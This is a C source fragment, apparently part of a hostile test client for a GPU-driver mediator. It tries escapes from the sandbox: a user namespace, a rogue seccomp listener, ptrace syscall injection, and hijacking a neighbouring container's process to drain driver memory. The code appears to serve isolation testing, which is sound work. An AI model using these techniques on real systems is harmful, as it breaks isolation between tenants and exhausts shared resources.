/* Attempts to leave the filter behind; a part of hostile.c. */
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/user.h>

static void attack_user_namespace(char **a) {
    int made = unshare(CLONE_NEWUSER | CLONE_NEWNS);
    say("unshare", made ? -errno : 0);
    attack_fill(a);
}
/* A seccomp listener of its own would answer in the mediator's place. */
static void attack_listener(char **a) {
    struct sock_filter code[] = {{BPF_LD | BPF_W | BPF_ABS, 0, 0, 0}, {BPF_JMP | BPF_JEQ | BPF_K, 0, 1, SYS_ioctl}, {BPF_RET | BPF_K, 0, 0, SECCOMP_RET_USER_NOTIF}, {BPF_RET | BPF_K, 0, 0, SECCOMP_RET_ALLOW}};
    struct sock_fprog program = {4, code};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    long got = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
    say("listener", got < 0 ? -errno : got);
    struct sock_filter allow[] = {{BPF_RET | BPF_K, 0, 0, SECCOMP_RET_ALLOW}};
    struct sock_fprog all = {1, allow};
    got = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &all);
    say("filter", got < 0 ? -errno : got);
    attack_fill(a);
}
#if defined(__x86_64__)
/* A tracer turns a harmless call of its child into one of the driver's. */
static void attack_ptrace(char **a) {
    (void)a;
    struct session s = begin();
    struct rm_alloc *call = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    struct memory_params *params = (void *)(call + 1);
    params->owner = s.client, params->size = 1ull << 40;
    *call = (struct rm_alloc){.root = s.client, .parent = s.device, .class = 0x40, .params = (uintptr_t)params, .params_size = sizeof *params, .status = 0xdead};
    pid_t child = fork();
    if (child == 0) {
        ptrace(PTRACE_TRACEME, 0, NULL, NULL);
        raise(SIGSTOP);
        syscall(SYS_getppid);
        _exit(0);
    }
    int status, injected = 0;
    waitpid(child, &status, 0);
    while (ptrace(PTRACE_SYSCALL, child, NULL, NULL) == 0 && waitpid(child, &status, 0) > 0 && WIFSTOPPED(status)) {
        struct user_regs_struct registers;
        ptrace(PTRACE_GETREGS, child, NULL, &registers);
        if (!injected && registers.orig_rax == SYS_getppid) {
            injected = 1;
            registers.orig_rax = SYS_ioctl, registers.rdi = s.control, registers.rsi = RM(0x2b, struct rm_alloc), registers.rdx = (uintptr_t)call;
            ptrace(PTRACE_SETREGS, child, NULL, &registers);
        }
    }
    say("injected", injected);
    say("status", call->status);
}
/* Has a stopped process make an ioctl, with an argument that is put onto its stack and taken back. */
static long ioctl_as(pid_t pid, const struct user_regs_struct *at, int fd, unsigned long command, void *argument, size_t size, uint64_t place) {
    struct user_regs_struct registers = *at;
    struct iovec here = {argument, size}, there = {(void *)place, size};
    if (process_vm_writev(pid, &here, 1, &there, 1, 0) < 0) die("process_vm_writev");
    /* It stands behind the two bytes of a system call. */
    registers.rip -= 2, registers.rax = SYS_ioctl, registers.orig_rax = -1;
    registers.rdi = fd, registers.rsi = command, registers.rdx = place;
    if (ptrace(PTRACE_SETREGS, pid, NULL, &registers)) die("PTRACE_SETREGS");
    for (int i = 0, status; i < 2; i++)
        if (ptrace(PTRACE_SYSCALL, pid, NULL, NULL) || waitpid(pid, &status, 0) < 0 || !WIFSTOPPED(status)) die("PTRACE_SYSCALL");
    ptrace(PTRACE_GETREGS, pid, NULL, &registers);
    process_vm_readv(pid, &here, 1, &there, 1, 0);
    return (long)registers.rax;
}
/* The first process of another container that holds memory: `hostile hold ...`. */
static pid_t neighbour(void) {
    for (pid_t pid = 1; pid < 100000; pid++) {
        char path[40], words[64] = {0};
        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
        int fd = open(path, O_RDONLY);
        if (fd < 0) continue;
        ssize_t length = read(fd, words, sizeof words - 1);
        close(fd);
        size_t first = strlen(words) + 1;
        if (length > (ssize_t)first && strcmp(words + first, "hold") == 0) return pid;
    }
    return 0;
}
/* ptrace-neighbour: what a process of another container gets, when it is made to ask for all that it can. */
static void attack_ptrace_neighbour(char **a) {
    (void)a;
    pid_t pid = neighbour();
    say("found", pid > 0);
    if (!pid || ptrace(PTRACE_ATTACH, pid, NULL, NULL)) {
        say("attached", pid ? -errno : 0);
        for (;;) pause();
    }
    say("attached", 1);
    int status;
    waitpid(pid, &status, 0);
    struct user_regs_struct at;
    ptrace(PTRACE_GETREGS, pid, NULL, &at);
    uint64_t place = (at.rsp - 16384) & ~4095ull, params_at = place + 2048, got = 0;
    int fd = 3;
    struct rm_alloc root = {.class = 0x41, .status = 0xdead};
    for (; fd < 16 && ioctl_as(pid, &at, fd, RM(0x2b, struct rm_alloc), &root, sizeof root, place) < 0; fd++) {}
    say("root", root.status);
    char zeros[256] = {0};
    struct iovec here = {zeros, sizeof zeros}, there = {(void *)params_at, sizeof zeros};
    process_vm_writev(pid, &here, 1, &there, 1, 0);
    struct rm_alloc device = {.root = root.handle, .parent = root.handle, .class = 0x80, .params = params_at, .params_size = 56, .status = 0xdead};
    ioctl_as(pid, &at, fd, RM(0x2b, struct rm_alloc), &device, sizeof device, place);
    say("device", device.status);
    struct rm_alloc call;
    do {
        struct memory_params params = {.owner = root.handle, .size = 16 * MIB};
        here = (struct iovec){&params, sizeof params}, there = (struct iovec){(void *)params_at, sizeof params};
        process_vm_writev(pid, &here, 1, &there, 1, 0);
        call = (struct rm_alloc){.root = root.handle, .parent = device.handle, .class = 0x40, .params = params_at, .params_size = sizeof params, .status = 0xdead};
        if (ioctl_as(pid, &at, fd, RM(0x2b, struct rm_alloc), &call, sizeof call, place) < 0) break;
        if (!call.status) got += 16 * MIB;
    } while (!call.status);
    /* A process that is traced is not seen to end before its tracer has looked. */
    ptrace(PTRACE_SETREGS, pid, NULL, &at);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
    say("got", got);
    say("status", call.status);
    for (;;) pause();
}
#endif
